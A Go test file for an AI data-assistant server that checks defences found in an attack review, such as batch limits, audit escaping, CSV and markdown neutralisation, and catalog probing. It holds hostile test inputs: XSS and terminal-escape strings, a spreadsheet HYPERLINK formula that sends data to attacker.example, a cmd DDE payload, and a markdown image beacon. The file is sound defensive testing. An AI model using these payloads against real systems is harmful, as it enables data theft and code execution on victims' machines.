package web_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/askmesh/askmesh/adapters/channels/web"
	"github.com/askmesh/askmesh/assistant/assistanttest"
	"github.com/askmesh/askmesh/audit"
	"github.com/askmesh/askmesh/authz"
	"github.com/askmesh/askmesh/examples/bank"
	"github.com/askmesh/askmesh/internal/app"
	"github.com/askmesh/askmesh/tools"
)

// Findings of the attack review (issue 14), through the real server.

// rpcCall is one JSON-RPC tools/call message.
func rpcCall(id int, tool, args string) string {
	return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%q,"arguments":%s}}`, id, tool, args)
}

// rpcReply is one JSON-RPC reply to tools/call: the result as JSON text.
type rpcReply struct {
	Result struct {
		IsError bool `json:"isError"`
		Content []struct {
			Text string `json:"text"`
		} `json:"content"`
	} `json:"result"`
}

// mcpResult makes one tools/call through POST /mcp and decodes its result.
func (h *harness) mcpResult(token, call string) tools.Result {
	h.t.Helper()
	res, body := h.do("POST", "/mcp", token, call, mcpHeaders(""))
	var r rpcReply
	var out tools.Result
	if res.StatusCode != http.StatusOK || json.Unmarshal(body, &r) != nil || r.Result.IsError || len(r.Result.Content) != 1 ||
		json.Unmarshal([]byte(r.Result.Content[0].Text), &out) != nil {
		h.t.Fatalf("tools/call %s: %d %s", call, res.StatusCode, body)
	}
	return out
}

func rpcBatch(n int) string {
	msgs := make([]string, n)
	for i := range msgs {
		msgs[i] = rpcCall(i+1, tools.ToolSearch, `{"query":"loans"}`)
	}
	return "[" + strings.Join(msgs, ",") + "]"
}

func mcpHeaders(version string) map[string]string {
	h := map[string]string{"Accept": "application/json, text/event-stream"}
	if version != "" {
		h["Mcp-Protocol-Version"] = version
	}
	return h
}

func (h *harness) auditCount(subject string) int {
	recs, err := h.app.Audit.Search(context.Background(), audit.Query{Subject: subject})
	if err != nil {
		h.t.Fatal(err)
	}
	return len(recs)
}

// A batch of a thousand tool calls in one POST is refused whatever the
// version, and a batch an older client may send is bounded and spends one
// tool call of the user's budget per call.
func TestMCPBatchesCountToolCalls(t *testing.T) {
	t.Parallel()
	h := newHarness(t, setup{cfg: func(c *app.Config) { c.Limits = tools.Limits{ToolCallBurst: 5, ToolCallsPerMinute: 1} }})
	for _, c := range []struct {
		version string
		n       int
	}{{"", 1000}, {"2025-03-26", 11}, {"2025-06-18", 2}, {"2025-11-25", 1000}} {
		res, body := h.do("POST", "/mcp", "demo-carol", rpcBatch(c.n), mcpHeaders(c.version))
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), `"error"`) || !strings.Contains(string(body), "batch") {
			t.Errorf("batch of %d (version %q): %d %s", c.n, c.version, res.StatusCode, body)
		}
	}
	if n := h.auditCount("carol@bank.example"); n != 0 {
		t.Fatalf("refused batches left %d audit records: their calls ran", n)
	}
	// Ten calls in one allowed batch: five fit carol's burst, five are refused.
	res, body := h.do("POST", "/mcp", "demo-carol", rpcBatch(10), mcpHeaders(""))
	if res.StatusCode != http.StatusOK {
		t.Fatalf("a bounded batch: %d %s", res.StatusCode, body)
	}
	var replies []rpcReply
	if err := json.Unmarshal(body, &replies); err != nil || len(replies) != 10 {
		t.Fatalf("batch replies: %v %s", err, body)
	}
	limited := 0
	for _, r := range replies {
		if r.Result.IsError && len(r.Result.Content) == 1 && strings.Contains(r.Result.Content[0].Text, `"rate_limited"`) {
			limited++
		}
	}
	if limited != 5 {
		t.Errorf("%d of 10 batched calls rate limited, want 5: %s", limited, body)
	}
	if n := h.auditCount("carol@bank.example"); n != 5 {
		t.Errorf("%d audit records, want the 5 calls that ran", n)
	}
	// The budget is carol's on every surface: her next chat question gets
	// no tool call through, while dave's budget is untouched.
	res, body = h.do("POST", "/mcp", "demo-dave", rpcCall(1, tools.ToolSearch, `{"query":"audit"}`), mcpHeaders("2025-06-18"))
	if res.StatusCode != http.StatusOK || strings.Contains(string(body), "rate_limited") {
		t.Errorf("dave's call: %d %s", res.StatusCode, body)
	}
}

// An MCP call to a tool that does not exist is refused and audited like
// every attempt; the client's self-chosen name reaches the log escaped.
func TestMCPUnknownToolAuditedAndClientNameEscaped(t *testing.T) {
	t.Parallel()
	h := newHarness(t, setup{})
	res, body := h.do("POST", "/mcp", "demo-frank", rpcCall(1, "drop_all_tables", `{"product":"customers"}`), mcpHeaders("2025-06-18"))
	if res.StatusCode != http.StatusOK || !strings.Contains(string(body), "unknown tool") {
		t.Fatalf("unknown tool: %d %s", res.StatusCode, body)
	}
	recs, err := h.app.Audit.Search(context.Background(), audit.Query{Subject: "frank@bank.example"})
	if err != nil || len(recs) != 1 || recs[0].Tool != "drop_all_tables" || recs[0].Decision != audit.DecisionError || recs[0].Channel != "mcp" {
		t.Fatalf("frank's unknown tool call: %+v %v", recs, err)
	}
	init := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-03-26","capabilities":{},` +
		`"clientInfo":{"name":"evil\u001b[2J<img src=x onerror=alert(1)>","version":"1"}}}`
	batch := "[" + init + "," + rpcCall(2, tools.ToolSearch, `{"query":"loans"}`) + "]"
	res, body = h.do("POST", "/mcp", "demo-frank", batch, mcpHeaders(""))
	if res.StatusCode != http.StatusOK {
		t.Fatalf("initialize and call: %d %s", res.StatusCode, body)
	}
	recs, _ = h.app.Audit.Search(context.Background(), audit.Query{Subject: "frank@bank.example", Tool: tools.ToolSearch})
	for _, r := range recs {
		if strings.ContainsAny(r.Model, "\x1b<>") {
			t.Errorf("the client name reached the log as %q", r.Model)
		}
	}
}

// writeCatalog copies the demo descriptors to a directory, editing one.
func writeCatalog(t *testing.T, edit func(name, text string) string) string {
	t.Helper()
	dst := t.TempDir()
	err := fs.WalkDir(bank.Files, bank.ProductsDir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := bank.Files.ReadFile(path)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(dst, d.Name()), []byte(edit(strings.TrimSuffix(d.Name(), ".yaml"), string(b))), 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	return dst
}

// With a grant on access-audit that does not include see: [confidential],
// the record detail and both exports withhold arguments and question, as
// describe and get_record do.
func TestAuditSurfacesApplyColumnPolicy(t *testing.T) {
	t.Parallel()
	cat := writeCatalog(t, func(name, text string) string {
		if name != "access-audit" {
			return text
		}
		out := strings.Replace(text, "          see: [confidential]\n", "", 1)
		if out == text {
			t.Fatal("access-audit.yaml no longer grants see: [confidential] to auditors")
		}
		return out
	})
	h := newHarness(t, setup{cfg: func(c *app.Config) { c.CatalogDir = cat }})
	const marker = "question-marker-900-11-2222"
	res, body := h.do("POST", "/v1/chat", "demo-bob", map[string]string{"message": "How many loan applications last month? " + marker}, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("bob's question: %d %s", res.StatusCode, body)
	}
	// bob's call with a filter on a value (denied, and recorded with its
	// arguments): arguments are confidential.
	_, err := h.app.Tools.Call(context.Background(), tools.Caller{Subject: h.app.Directory.Lookup("bob@bank.example"), Channel: "api", Question: marker},
		tools.Call{Tool: tools.ToolQueryRecords, Arguments: json.RawMessage(`{"product":"customers","columns":["customer_id"],"filters":[{"column":"email","op":"=","value":"filter-marker@example.org"}]}`)})
	if tools.AuditIDOf(err) == "" {
		t.Fatalf("bob's filtered call left no record: %v", err)
	}
	recs, err := h.app.Audit.Search(context.Background(), audit.Query{Subject: "bob@bank.example"})
	if err != nil || len(recs) < 2 {
		t.Fatalf("bob's records: %d %v", len(recs), err)
	}
	secrets := []string{marker, "filter-marker@example.org"}
	for _, rec := range recs {
		var detail map[string]any
		res, body := h.auditAPI("GET", "/v1/audit/records/"+rec.ID, "dave", &detail)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("detail: %d %s", res.StatusCode, body)
		}
		r, _ := detail["record"].(map[string]any)
		if r["id"] != rec.ID || r["subject"] != "bob@bank.example" || detail["hash_matches"] != true {
			t.Errorf("detail lacks what dave may see: %s", body)
		}
		for _, col := range []string{"arguments", "question"} {
			if _, ok := r[col]; ok {
				t.Errorf("detail of %s shows %s, which dave may not see", rec.ID, col)
			}
		}
		for _, s := range secrets {
			if strings.Contains(string(body), s) {
				t.Errorf("detail of %s shows %q", rec.ID, s)
			}
		}
	}
	for _, format := range []string{"jsonl", "csv"} {
		res, body := h.auditAPI("GET", "/v1/audit/export?format="+format+"&user=bob@bank.example", "dave", nil)
		if res.StatusCode != http.StatusOK || res.Header.Get("X-Askmesh-Records") != fmt.Sprint(len(recs)) {
			t.Fatalf("export %s: %d, %s records, want %d: %s", format, res.StatusCode, res.Header.Get("X-Askmesh-Records"), len(recs), body)
		}
		for _, s := range append(secrets, "arguments", "question") {
			if strings.Contains(string(body), s) {
				t.Errorf("%s export shows %q:\n%s", format, s, body)
			}
		}
	}
}

// A question written as a spreadsheet formula stays text in the CSV export.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	h := newHarness(t, setup{})
	q := `=HYPERLINK("http://attacker.example/?"&A1,"click")`
	if _, err := h.app.Tools.Call(context.Background(), tools.Caller{Subject: h.app.Directory.Lookup("alice@bank.example"), Channel: "api", Question: q},
		tools.Call{Tool: tools.ToolSearch, Arguments: json.RawMessage(`{"query":"+cmd|' /C calc'!A0"}`)}); err != nil {
		t.Fatal(err)
	}
	res, body := h.auditAPI("GET", "/v1/audit/export?format=csv&user=alice@bank.example", "dave", nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d %s", res.StatusCode, body)
	}
	if !strings.Contains(string(body), `"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`) {
		t.Errorf("the formula is not neutralised:\n%s", body)
	}
	for _, line := range strings.Split(string(body), "\n") {
		for _, cell := range strings.Split(line, ",") {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, `"=`) || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, `"+`) {
				t.Errorf("a cell starts a formula: %s", cell)
			}
		}
	}
}

// A chat body that trickles in is cut off at the body timeout, and the
// endpoints that authenticate nobody (Slack's) are limited per address.
func TestSlowBodiesAndPublicFloods(t *testing.T) {
	t.Parallel()
	public := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusOK) })
	h := newHarness(t, setup{opts: func(o *web.Options) {
		o.Limits.BodyTimeout = 300 * time.Millisecond
		o.Limits.PublicBurst, o.Limits.PublicRatePerMinute = 3, 1
		o.Routes = map[string]http.Handler{"POST /slack/events": public}
	}})
	addr := strings.TrimPrefix(h.ts.URL, "http://")
	for _, head := range []string{
		"POST /v1/chat HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer demo-carol\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n",
		"POST /slack/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n",
		"POST /mcp HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer demo-carol\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n",
	} {
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprint(conn, head+`{"message":"How many`)
		_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
		line, err := bufio.NewReader(conn).ReadString('\n')
		conn.Close()
		if !strings.Contains(line, " 408 ") {
			t.Errorf("%s: a trickled body got %q (%v), want 408 after 300ms", strings.SplitN(head, "\r", 2)[0], line, err)
		}
	}
	// The slow Slack request above took one of the address's 3 tokens.
	codes := []int{}
	for range 4 {
		res, _ := h.do("POST", "/slack/events", "", `{}`, nil)
		codes = append(codes, res.StatusCode)
	}
	if fmt.Sprint(codes) != "[200 200 429 429]" {
		t.Errorf("one address's Slack posts: %v, want [200 200 429 429]", codes)
	}
	// A body larger than the public bound is refused before it is read.
	res, _ := h.do("POST", "/slack/events", "", strings.Repeat("x", 300<<10), map[string]string{"X-Forwarded-For": "10.0.0.9"})
	if res.StatusCode != http.StatusRequestEntityTooLarge && res.StatusCode != http.StatusTooManyRequests {
		t.Errorf("300 KiB Slack post: %d", res.StatusCode)
	}
}

// /metrics is not served to anyone on the API port: only with its token.
func TestMetricsNeedTheirToken(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		token, bearer string
		want          int
	}{{"", "", 404}, {"", "demo-dave", 404}, {"m-secret", "", 401}, {"m-secret", "demo-dave", 401}, {"m-secret", "m-secret", 200}} {
		h := newHarness(t, setup{opts: func(o *web.Options) { o.Limits.MetricsToken = c.token }})
		res, body := h.do("GET", "/metrics", c.bearer, nil, nil)
		if res.StatusCode != c.want || (c.want == 200) != strings.Contains(string(body), "askmesh_") {
			t.Errorf("metrics token %q, bearer %q: %d, want %d", c.token, c.bearer, res.StatusCode, c.want)
		}
	}
}

// The channel policy sees comes from the route, not a header the client sets.
func TestChannelComesFromTheRoute(t *testing.T) {
	t.Parallel()
	h := newHarness(t, setup{})
	q := map[string]any{"message": acquisitionQuestion}
	h.do("POST", "/v1/chat", "demo-carol", q, map[string]string{"X-Askmesh-Client": "web"})
	h.do("POST", "/v1/web/chat", "demo-alice", q, nil)
	for user, want := range map[string]string{"carol@bank.example": "api", "alice@bank.example": "web"} {
		recs, err := h.app.Audit.Search(context.Background(), audit.Query{Subject: user})
		if err != nil || len(recs) == 0 {
			t.Fatalf("%s: %d records %v", user, len(recs), err)
		}
		for _, r := range recs {
			if r.Channel != want {
				t.Errorf("%s's call recorded under channel %q, want %q", user, r.Channel, want)
			}
		}
	}
}

// Markup a user put in a value echoed back (a product name in a refusal)
// is inert in the OpenAI-compatible markdown; numbers are plain decimals.
func TestOpenAIMarkdownEscapesEchoedMarkup(t *testing.T) {
	t.Parallel()
	evil := `![x](http://attacker.example/p.png) <img src=x onerror=alert(1)>`
	args, _ := json.Marshal(map[string]any{"product": "customers", "metrics": []string{"customer_count"}, "group_by": []string{evil}})
	model := &assistanttest.Script{Turns: []assistanttest.Turn{
		assistanttest.Calls(assistanttest.Call("c1", tools.ToolQueryMetrics, string(args)),
			assistanttest.Call("c2", tools.ToolQueryMetrics, `{"product":"customer-transactions","metrics":["total_amount"],"group_by":["currency"]}`)),
	}, Then: assistanttest.Text("Here you are.")}
	h := newHarness(t, setup{model: model})
	res, body := h.do("POST", "/v1/chat/completions", "demo-frank", map[string]any{"model": "askmesh",
		"messages": []map[string]string{{"role": "user", "content": "customers by name"}}}, nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("%d %s", res.StatusCode, body)
	}
	for _, bad := range []string{"<img", "![x](", "](http"} {
		if strings.Contains(string(body), bad) {
			t.Errorf("the markdown carries %q: %s", bad, body)
		}
	}
	h2 := newHarness(t, setup{model: &assistanttest.Script{Turns: []assistanttest.Turn{
		assistanttest.Calls(assistanttest.Call("c1", tools.ToolQueryMetrics, `{"product":"customer-transactions","metrics":["total_amount"],"group_by":["currency"]}`)),
	}, Then: assistanttest.Text("Totals.")}})
	res, body = h2.do("POST", "/v1/chat/completions", "demo-erin", map[string]any{"model": "askmesh",
		"messages": []map[string]string{{"role": "user", "content": "totals by currency"}}}, nil)
	if res.StatusCode != http.StatusOK || strings.Contains(string(body), "e+0") || !strings.Contains(string(body), ",") {
		t.Errorf("amounts in exponent notation or ungrouped: %d %s", res.StatusCode, body)
	}
}

// History a client hands over is bounded by messages and bytes.
func TestClientHistoryIsBounded(t *testing.T) {
	t.Parallel()
	h := newHarness(t, setup{})
	var msgs []map[string]string
	for i := range 200 {
		role := "user"
		if i%2 == 1 {
			role = "assistant"
		}
		msgs = append(msgs, map[string]string{"role": role, "content": fmt.Sprintf("turn %d ", i) + strings.Repeat("x", 4500)})
	}
	msgs = append(msgs, map[string]string{"role": "user", "content": acquisitionQuestion})
	res, body := h.do("POST", "/v1/chat/completions", "demo-carol", map[string]any{"model": "askmesh", "messages": msgs},
		map[string]string{"X-Askmesh-Conversation-Id": "big-history"})
	if res.StatusCode != http.StatusOK {
		t.Fatalf("%d %s", res.StatusCode, body)
	}
	conv := res.Header.Get("X-Askmesh-Conversation-Id")
	held, err := h.app.Agent.Memory().Load(context.Background(), "carol@bank.example", conv)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(held)
	if len(b) > 64<<10 || len(held) == 0 {
		t.Errorf("conversation %q holds %d messages, %d bytes after a 900 KB history", conv, len(held), len(b))
	}
}

// Finding 6: neither a stranger to the directory (a valid token for an id
// it does not list) nor a user without a grant on customers learns its
// columns, values, metrics or a product name from an error, over MCP or
// the chat; every probe is a recorded denial.
func TestStrangersCannotMapTheCatalog(t *testing.T) {
	probes := []string{
		`{"name":"describe_data_product","arguments":{"product":"custmers"}}`,
		`{"name":"query_records","arguments":{"product":"customers","columns":["sn"]}}`,
		`{"name":"query_records","arguments":{"product":"customers","filters":[{"column":"segment","op":"=","value":"x"}]}}`,
		`{"name":"query_metrics","arguments":{"product":"customers","metrics":["zz"],"group_by":["risk"]}}`,
		`{"name":"find_anomalies","arguments":{"product":"customers"}}`,
	}
	secrets := []string{"ssn", "date_of_birth", "affluent", "customer_count", "risk_rating", "it offers", "did you mean"}
	model := &assistanttest.Script{Turns: []assistanttest.Turn{assistanttest.Calls(
		assistanttest.Call("c1", tools.ToolQueryRecords, `{"product":"customers","columns":["sn"]}`),
		assistanttest.Call("c2", tools.ToolQueryRecords, `{"product":"customers","filters":[{"column":"segment","op":"=","value":"x"}]}`),
	)}, Then: assistanttest.Text("Here is what the tools said.")}
	h := newHarness(t, setup{model: model, opts: func(o *web.Options) {
		o.Auth.Tokens = map[string]string{authz.HashToken("stranger-token"): "mallory@evil.example"}
	}})
	for _, c := range []struct{ token, user, reason string }{
		{"stranger-token", "mallory@evil.example", "not in the askmesh directory"},
		{"demo-frank", "frank@bank.example", "not in a group that may query customers"},
	} {
		for i, p := range probes {
			body := fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":%s}`, i+1, p)
			res, b := h.do("POST", "/mcp", c.token, body, mcpHeaders("2025-06-18"))
			reason := c.reason
			if i == 0 && c.user == "frank@bank.example" {
				reason = "unknown product" // frank may search the catalog; strangers may not
			}
			if res.StatusCode != http.StatusOK || !strings.Contains(string(b), reason) {
				t.Errorf("%s, MCP probe %d: %d, want %q: %s", c.user, i+1, res.StatusCode, reason, b)
			}
			for _, s := range secrets {
				if strings.Contains(string(b), s) && !(i == 0 && s == "did you mean" && c.user == "frank@bank.example") {
					t.Errorf("%s, MCP probe %d reveals %q: %s", c.user, i+1, s, b)
				}
			}
		}
		res, b := h.do("POST", "/v1/chat", c.token, map[string]any{"message": "which columns does customers have?"}, nil)
		if res.StatusCode != http.StatusOK || !strings.Contains(string(b), c.reason) {
			t.Errorf("%s, chat: %d %s", c.user, res.StatusCode, b)
		}
		for _, s := range secrets {
			if strings.Contains(string(b), s) {
				t.Errorf("%s, chat reveals %q: %s", c.user, s, b)
			}
		}
		recs, err := h.app.Audit.Search(context.Background(), audit.Query{Subject: c.user})
		if err != nil || len(recs) == 0 {
			t.Fatalf("%s: %d records: %v", c.user, len(recs), err)
		}
		for _, r := range recs {
			if r.Decision != audit.DecisionDeny && !(r.Tool == tools.ToolDescribe && c.user == "frank@bank.example") {
				t.Errorf("%s: %s recorded %s (%s), want a denial", c.user, r.Tool, r.Decision, r.Reason)
			}
		}
	}
}

// Finding 8 on the chat API: a client's X-Request-Id is never the request id
// the audit records carry. Two users sending the same id (or one copying
// another's) get ids of the server's own, on the chat, OpenAI-compatible
// and MCP routes, with the client's id recorded beside them; an oversized
// or malformed id is dropped.
func TestClientRequestIDsAreNotTrustedAcrossUsers(t *testing.T) {
	h := newHarness(t, setup{})
	shared := map[string]string{"X-Request-Id": "trace-42"}
	q := map[string]any{"message": acquisitionQuestion}
	resC, _ := h.do("POST", "/v1/chat", "demo-carol", q, shared)
	resA, _ := h.do("POST", "/v1/chat/completions", "demo-alice", map[string]any{"model": "askmesh",
		"messages": []map[string]string{{"role": "user", "content": acquisitionQuestion}}}, shared)
	resF, body := h.do("POST", "/mcp", "demo-frank", rpcCall(1, tools.ToolSearch, `{"query":"loans"}`), map[string]string{
		"Accept": "application/json, text/event-stream", "Mcp-Protocol-Version": "2025-06-18", "X-Request-Id": "trace-42"})
	if resF.StatusCode != http.StatusOK {
		t.Fatalf("mcp: %d %s", resF.StatusCode, body)
	}
	resD, _ := h.do("GET", "/v1/me", "demo-dave", nil, map[string]string{"X-Request-Id": strings.Repeat("x", 100_000)})
	seen := map[string]bool{}
	for user, res := range map[string]*http.Response{"carol": resC, "alice": resA, "frank": resF, "dave": resD} {
		id := res.Header.Get("X-Request-Id")
		if id == "" || strings.Contains(id, "trace-42") || strings.Contains(id, "xxx") || seen[id] {
			t.Errorf("%s: request id %q", user, id)
		}
		seen[id] = true
		if want := map[bool]string{true: "", false: "trace-42"}[user == "dave"]; res.Header.Get("X-Client-Request-Id") != want {
			t.Errorf("%s: client request id %q, want %q", user, res.Header.Get("X-Client-Request-Id"), want)
		}
	}
	recs, err := h.app.Audit.Search(context.Background(), audit.Query{RequestID: "trace-42"})
	if err != nil || len(recs) != 0 {
		t.Fatalf("%d audit records carry the client's id as theirs: %v", len(recs), err)
	}
	for _, u := range []string{"carol", "alice", "frank"} {
		recs, err := h.app.Audit.Search(context.Background(), audit.Query{Subject: u + "@bank.example"})
		if err != nil || len(recs) == 0 {
			t.Fatalf("%s: %d records %v", u, len(recs), err)
		}
		for _, r := range recs {
			if !seen[r.RequestID] {
				t.Errorf("%s's record carries request id %q, not the one the server issued", u, r.RequestID)
			}
			if r.ClientRequestID != "trace-42" {
				t.Errorf("%s's record keeps the client's id as %q, want trace-42", u, r.ClientRequestID)
			}
		}
	}
}
